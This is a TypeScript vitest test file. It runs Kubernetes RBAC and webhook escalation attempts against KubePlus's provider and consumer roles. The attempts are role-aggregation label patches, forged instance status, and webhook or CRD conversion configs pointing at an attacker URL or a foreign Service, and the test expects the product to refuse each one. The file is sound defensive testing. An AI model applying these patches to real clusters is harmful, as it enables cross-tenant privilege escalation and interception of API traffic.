// Attacks on the access KubePlus sets up (issue 16, seen items 3, 4, 10 and 12), each as an attacker holding the
// provider's or a consumer's kubeconfig would try it, against the real apiserver, the real helmer and the real
// metrics-collector. Every attack must be refused by the product, never by the test.
import { execFile } from "node:child_process";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  compositionManifest,
  conditionOf,
  freePort,
  ManifestDir,
  minimalChart,
  platformNamespace,
  pluginKubectl,
  serveFiles,
  serviceEnv,
  startHelmer,
  startService,
  tearDownPlatform,
  TestCluster,
  waitFor,
  waitForCrd,
  type KubectlResult,
  type RunningService,
  type TestCondition,
} from "@kubeplus/testing";

const run = promisify(execFile);
const cluster = new TestCluster();
const manifests = new ManifestDir("attack-rbac");
const work = mkdtempSync(join(tmpdir(), "attack-rbac-"));
const pluginDir = join(work, "bin");
const kubectl = pluginKubectl(cluster.state, pluginDir, work);
const CLI = fileURLToPath(
  new URL("../../../cli/dist/provider-kubeconfig/main.js", import.meta.url),
);

const SFX = Date.now().toString(36).slice(-5);
const KIND = "AttackApp";
const PLURAL = "attackapps";
const CRD = `${PLURAL}.platformapi.kubeplus`;
const CONSUMER_NS = `atk-eve-${SFX}`;
const VIEWER_NS = `atk-viewer-${SFX}`;
let kp = "";
let provider = "";
let eve = "";
let helmer: RunningService | undefined;
let collector: RunningService | undefined;
let charts: Awaited<ReturnType<typeof serveFiles>>;

async function providerKubeconfig(args: string[]): Promise<KubectlResult> {
  try {
    const { stdout, stderr } = await run(
      process.execPath,
      [CLI, ...args, "-k", cluster.state.kubeconfig],
      {
        cwd: work,
      },
    );
    return { code: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code?: number; stdout?: string; stderr?: string };
    return { code: e.code ?? 1, stdout: e.stdout ?? "", stderr: e.stderr ?? "" };
  }
}

/** kubectl as `kubeconfig`; the apiserver must refuse. Returns its message. */
async function refused(kubeconfig: string, args: string[]): Promise<string> {
  const r = await cluster.kubectl(args, kubeconfig);
  expect(
    r.code,
    `expected "kubectl ${args.join(" ")}" to be refused; it printed ${r.stdout}`,
  ).not.toBe(0);
  expect(r.stderr).toMatch(/forbidden/i);
  return r.stderr;
}

async function instanceOf(
  name: string,
  namespace: string,
): Promise<{
  status?: { helmrelease?: string; conditions?: TestCondition[] };
}> {
  const r = await cluster.kubectl(["get", PLURAL, name, "-n", namespace, "-o", "json"]);
  if (r.code !== 0) throw new Error(r.stderr);
  return JSON.parse(r.stdout) as { status?: { helmrelease?: string } };
}

async function waitReady(name: string, namespace: string): Promise<string> {
  const ready = await waitFor(
    async () => {
      const i = await instanceOf(name, namespace);
      return conditionOf(i)?.status === "True" && i.status?.helmrelease ? i : undefined;
    },
    {
      what: `instance ${namespace}/${name} Ready`,
      timeoutMs: 120_000,
      diagnose: () => cluster.diagnose(namespace),
    },
  );
  return ready.status?.helmrelease ?? "";
}

beforeAll(async () => {
  await run(process.execPath, [
    fileURLToPath(new URL("../../../cli/dist/install-plugins/main.js", import.meta.url)),
    pluginDir,
  ]);
  kp = await platformNamespace(cluster, "atk-rbac");
  const created = await providerKubeconfig(["create", kp]);
  expect(created.stderr).toBe("");
  provider = join(work, "kubeplus-saas-provider.json");
  charts = await serveFiles({ "/tiny-0.1.0.tgz": await minimalChart("tiny") });
  helmer = await startHelmer(cluster, kp, join(manifests.dir, "cache"));
  const rc = compositionManifest({
    name: "attack-app",
    namespace: kp,
    kind: KIND,
    plural: PLURAL,
    chartURL: `${charts.url}/tiny-0.1.0.tgz`,
    chartName: "tiny",
  });
  expect((await cluster.kubectl(["create", "-f", manifests.write("rc", rc)])).stderr).toBe("");
  await waitForCrd(cluster, CRD);
  const consumer = await providerKubeconfig(["create", CONSUMER_NS, "-c", "eve"]);
  expect(consumer.stderr).toBe("");
  eve = join(work, "eve.json");
  const granted = await kubectl(["grantpermission", "consumer", PLURAL, provider]);
  expect(granted.stderr).toBe("");
}, 300_000);

afterAll(async () => {
  await collector?.stop();
  // The instances carry the helmer's finalizer: a helmer an attack stopped comes back to let them go.
  helmer ??= await startHelmer(cluster, kp, join(manifests.dir, "cache"));
  await cluster.kubectl([
    "delete",
    PLURAL,
    "--all",
    "-n",
    CONSUMER_NS,
    "--wait=true",
    "--timeout=60s",
    "--ignore-not-found",
  ]);
  // Whatever an attack managed to create before its fence existed.
  await cluster.kubectl([
    "delete",
    "validatingwebhookconfiguration",
    `kubeplus-url-${SFX}`,
    `kubeplus-foreign-${SFX}`,
    `kubeplus-own-${SFX}`,
    "--ignore-not-found",
  ]);
  await cluster.kubectl([
    "delete",
    "crd",
    `convs${SFX}.platformapi.kubeplus`,
    "--ignore-not-found",
  ]);
  await cluster.kubectl(["delete", "namespace", VIEWER_NS, "--ignore-not-found", "--wait=false"]);
  await cluster.kubectl([
    "delete",
    "clusterrolebinding",
    `atk-viewer-${SFX}`,
    "--ignore-not-found",
  ]);
  await providerKubeconfig(["delete", CONSUMER_NS, "-c", "eve"]);
  await cluster.kubectl(["delete", "namespace", CONSUMER_NS, "--ignore-not-found", "--wait=false"]);
  await providerKubeconfig(["delete", kp]);
  await tearDownPlatform(cluster, { namespace: kp, generatedCrds: [CRD], services: [helmer] });
  await charts.close();
}, 300_000);

describe("attacks on access", () => {
  it("the provider cannot make its consumer role aggregate into the cluster's view role, so view never gains webhook rights", async () => {
    // A ServiceAccount that holds only the cluster's built-in `view`, cluster-wide.
    await cluster.kubectl(["create", "namespace", VIEWER_NS]);
    await cluster.kubectl(["create", "serviceaccount", "viewer", "-n", VIEWER_NS]);
    await cluster.kubectl([
      "create",
      "clusterrolebinding",
      `atk-viewer-${SFX}`,
      "--clusterrole=view",
      `--serviceaccount=${VIEWER_NS}:viewer`,
    ]);
    const viewer = `system:serviceaccount:${VIEWER_NS}:viewer`;
    const webhookRules = {
      apiGroups: ["admissionregistration.k8s.io"],
      resources: ["mutatingwebhookconfigurations"],
      verbs: ["create", "update", "patch", "delete"],
    };
    const labelled = {
      metadata: { labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
    };
    // The whole attack at once, then each half: the label alone, and the provider's own rules alone.
    const both = await refused(provider, [
      "patch",
      "clusterrole",
      "kubeplus-saas-consumer",
      "--type=merge",
      "-p",
      JSON.stringify({ ...labelled, rules: [webhookRules] }),
    ]);
    expect(both).toContain("kubeplus-saas-consumer");
    expect(
      await refused(provider, [
        "patch",
        "clusterrole",
        "kubeplus-saas-consumer",
        "--type=merge",
        "-p",
        JSON.stringify(labelled),
      ]),
    ).toContain("labels");
    // Any label, not only the well-known aggregation ones: an aggregating role may select on anything.
    await refused(provider, [
      "label",
      "clusterrole",
      "kubeplus-saas-consumer",
      "example.com/aggregate-to-monitoring=true",
    ]);
    // Give the aggregation controller the time it would need, then: view holds nothing of the provider's.
    await new Promise((r) => setTimeout(r, 2_000));
    const can = await cluster.kubectl([
      "auth",
      "can-i",
      "create",
      "mutatingwebhookconfigurations",
      `--as=${viewer}`,
    ]);
    expect(can.stdout.trim()).toBe("no");
    const view = await cluster.kubectl(["get", "clusterrole", "view", "-o", "json"]);
    expect(view.stdout).not.toContain("mutatingwebhookconfigurations");
  });

  it("the provider cannot put rules of other API groups, non-resource URLs or an aggregationRule into the consumer role", async () => {
    const patch = (body: object): string[] => [
      "patch",
      "clusterrole",
      "kubeplus-saas-consumer",
      "--type=merge",
      "-p",
      JSON.stringify(body),
    ];
    // The provider holds these itself (so RBAC's escalation check lets them through), but consumers must not.
    expect(
      await refused(
        provider,
        patch({ rules: [{ apiGroups: [""], resources: ["namespaces"], verbs: ["patch"] }] }),
      ),
    ).toContain("platformapi.kubeplus");
    await refused(
      provider,
      patch({
        rules: [
          {
            apiGroups: ["apiextensions.k8s.io"],
            resources: ["customresourcedefinitions"],
            verbs: ["create"],
          },
        ],
      }),
    );
    expect(
      await refused(
        provider,
        patch({
          aggregationRule: {
            clusterRoleSelectors: [
              { matchLabels: { "rbac.authorization.k8s.io/aggregate-to-admin": "true" } },
            ],
          },
        }),
      ),
    ).toContain("aggregationRule");
    // What grantpermission writes is still accepted.
    const again = await kubectl(["grantpermission", "consumer", PLURAL, provider]);
    expect(again.stderr).toBe("");
    expect(again.code).toBe(0);
  });

  it("the provider holds no nodes/proxy unless created with --kubelet-proxy, and reads kubelet metrics and stats", async () => {
    const canI = async (resource: string, subresource: string): Promise<string> =>
      (
        await cluster.kubectl(
          // Cluster-scoped: asked without a namespace (in its own, the tenant role would answer).
          ["auth", "can-i", "get", resource, `--subresource=${subresource}`, "--all-namespaces"],
          provider,
        )
      ).stdout.trim();
    expect(await canI("nodes", "proxy")).toBe("no");
    expect(await canI("nodes", "metrics")).toBe("yes");
    expect(await canI("nodes", "stats")).toBe("yes");
    // The explicit opt-in, and taking it back by creating again without it.
    const optIn = await providerKubeconfig(["create", kp, "--kubelet-proxy"]);
    expect(optIn.stderr).toBe("");
    expect(optIn.code).toBe(0);
    await waitFor(async () => (await canI("nodes", "proxy")) === "yes", {
      what: "the opt-in to grant nodes/proxy",
    });
    expect((await providerKubeconfig(["create", kp])).code).toBe(0);
    await waitFor(async () => (await canI("nodes", "proxy")) === "no", {
      what: "create without --kubelet-proxy to take nodes/proxy away",
    });
  });

  it("a consumer cannot write its instance's status", async () => {
    const name = `eve-${SFX}`;
    const created = await cluster.kubectl(
      [
        "create",
        "-f",
        manifests.write("eve-app", {
          apiVersion: "platformapi.kubeplus/v1alpha1",
          kind: KIND,
          metadata: { name },
          spec: {},
        }),
      ],
      eve,
    );
    expect(created.stderr).toBe("");
    await refused(eve, [
      "patch",
      PLURAL,
      name,
      "--subresource=status",
      "--type=merge",
      "-p",
      JSON.stringify({ status: { helmrelease: `${kp}:someone-else` } }),
    ]);
    // The consumer still manages the instance itself.
    const changed = await cluster.kubectl(
      ["patch", PLURAL, name, "--type=merge", "-p", '{"spec":{"greeting":"hello"}}'],
      eve,
    );
    expect(changed.stderr).toBe("");
    expect((await cluster.kubectl(["delete", PLURAL, name, "--wait=false"], eve)).code).toBe(0);
  });

  it("a forged status.helmrelease never makes the metrics-collector meter or record another tenant's namespace", async () => {
    const victim = `victim-${SFX}`;
    const attacker = `mallory-${SFX}`;
    for (const name of [victim, attacker]) {
      const file = manifests.write(name, {
        apiVersion: "platformapi.kubeplus/v1alpha1",
        kind: KIND,
        metadata: { name, namespace: kp },
        spec: {},
      });
      expect((await cluster.kubectl(["create", "-f", file])).stderr).toBe("");
    }
    const victimRelease = await waitReady(victim, kp);
    const attackerRelease = await waitReady(attacker, kp);
    const [victimNamespace = ""] = victimRelease.split(":");
    const [attackerNamespace = ""] = attackerRelease.split(":");
    expect(victimNamespace).not.toBe(attackerNamespace);
    // Nothing rewrites the status from now on: the forgery stands while the collector runs.
    await helmer?.stop();
    helmer = undefined;
    const forged = await cluster.kubectl([
      "patch",
      PLURAL,
      attacker,
      "-n",
      kp,
      "--subresource=status",
      "--type=merge",
      "-p",
      JSON.stringify({ status: { helmrelease: victimRelease } }),
    ]);
    expect(forged.stderr).toBe("");
    const port = await freePort();
    collector = await startService(
      "metrics-collector",
      serviceEnv(cluster.state, {
        KUBEPLUS_NAMESPACE: kp,
        PORT: String(port),
        HOST: "127.0.0.1",
        INTERVAL_SECONDS: "1",
        KUBELET_CA_FILE: join(cluster.state.runDir, "pki", "ca.crt"),
        POD_NAME: `metrics-collector-${kp}`,
      }),
      (l) => l.msg === "metrics-collector started",
    );
    interface Usage {
      name: string;
      namespace: string;
      targetNamespace: string;
    }
    const usages = await waitFor(
      async () => {
        const res = await fetch(`http://127.0.0.1:${String(port)}/v1/usage`);
        const all = ((await res.json()) as Usage[]).filter((u) => u.namespace === kp);
        return all.some((u) => u.name === victim) ? all : undefined;
      },
      { what: "a pass that meters the victim" },
    );
    const mallory = usages.find((u) => u.name === attacker);
    expect(mallory?.targetNamespace ?? attackerNamespace).toBe(attackerNamespace);
    // The victim's usage record (written by the leader every pass) names the victim, pass after pass.
    for (let i = 0; i < 4; i++) {
      const cm = await waitFor(
        async () => {
          const r = await cluster.kubectl([
            "get",
            "configmaps",
            "-n",
            victimNamespace,
            "-l",
            "app.kubernetes.io/component=metrics-collector",
            "-o",
            "json",
          ]);
          const items = (
            JSON.parse(r.stdout || '{"items":[]}') as {
              items: { metadata: { labels: Record<string, string> } }[];
            }
          ).items;
          return items.length > 0 ? items : undefined;
        },
        { what: "the victim's usage record" },
      );
      expect(cm.map((c) => c.metadata.labels["kubeplus.dev/instance-name"])).toEqual([victim]);
      await new Promise((r) => setTimeout(r, 1_000));
    }
  });

  it("the provider's webhooks and CRD conversions may only call a Service in the provider's own namespace", async () => {
    const webhook = (name: string, clientConfig: object): object => ({
      apiVersion: "admissionregistration.k8s.io/v1",
      kind: "ValidatingWebhookConfiguration",
      metadata: { name },
      webhooks: [
        {
          name: "attack.kubeplus.dev",
          admissionReviewVersions: ["v1"],
          sideEffects: "None",
          clientConfig,
          rules: [
            {
              apiGroups: ["platformapi.kubeplus"],
              apiVersions: ["*"],
              operations: ["CREATE"],
              resources: ["*"],
            },
          ],
          failurePolicy: "Ignore",
        },
      ],
    });
    const create = (name: string, object: object): string[] => [
      "create",
      "-f",
      manifests.write(name, object),
    ];
    expect(
      await refused(
        provider,
        create("hook-url", webhook(`kubeplus-url-${SFX}`, { url: "https://attacker.invalid/x" })),
      ),
    ).toContain("clientConfig.service");
    await refused(
      provider,
      create(
        "hook-foreign",
        webhook(`kubeplus-foreign-${SFX}`, {
          service: { namespace: "kube-system", name: "kube-dns", port: 443 },
        }),
      ),
    );
    const crd = (conversion: object): object => ({
      apiVersion: "apiextensions.k8s.io/v1",
      kind: "CustomResourceDefinition",
      metadata: { name: `convs${SFX}.platformapi.kubeplus` },
      spec: {
        group: "platformapi.kubeplus",
        scope: "Namespaced",
        names: { kind: `Conv${SFX}`, plural: `convs${SFX}`, listKind: `Conv${SFX}List` },
        versions: [
          {
            name: "v1alpha1",
            served: true,
            storage: true,
            schema: {
              openAPIV3Schema: { type: "object", "x-kubernetes-preserve-unknown-fields": true },
            },
          },
          {
            name: "v1beta1",
            served: true,
            storage: false,
            schema: {
              openAPIV3Schema: { type: "object", "x-kubernetes-preserve-unknown-fields": true },
            },
          },
        ],
        conversion,
      },
    });
    const viaUrl = {
      strategy: "Webhook",
      webhook: {
        conversionReviewVersions: ["v1"],
        clientConfig: { url: "https://attacker.invalid/convert" },
      },
    };
    expect(await refused(provider, create("crd-url", crd(viaUrl)))).toContain(
      "clientConfig.service",
    );
    const viaForeign = {
      strategy: "Webhook",
      webhook: {
        conversionReviewVersions: ["v1"],
        clientConfig: { service: { namespace: "default", name: "kubernetes" } },
      },
    };
    await refused(provider, create("crd-foreign", crd(viaForeign)));
    // Its own namespace's Service is what KubePlus's chart uses, and stays allowed.
    const own = await cluster.kubectl(
      create(
        "hook-own",
        webhook(`kubeplus-own-${SFX}`, { service: { namespace: kp, name: "crd-hook", port: 443 } }),
      ),
      provider,
    );
    expect(own.stderr).toBe("");
    await cluster.kubectl(["delete", "validatingwebhookconfiguration", `kubeplus-own-${SFX}`]);
  });
});
